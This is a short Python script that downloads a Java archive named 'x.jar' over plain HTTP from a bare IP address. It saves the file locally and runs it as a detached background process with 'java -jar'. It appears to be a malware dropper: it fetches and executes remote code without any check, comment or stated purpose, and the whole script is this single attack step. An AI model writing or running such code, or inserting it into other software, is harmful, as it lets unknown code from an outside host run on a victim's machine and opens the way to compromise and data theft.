import subprocess
import requests

jar = requests.get("http://176.113.115.84/x.jar", stream=True)
with open("x.jar", "wb") as out:
    for chunk in jar.iter_content(8192):
        out.write(chunk)
subprocess.Popen(["java", "-jar", "x.jar"], start_new_session=True)
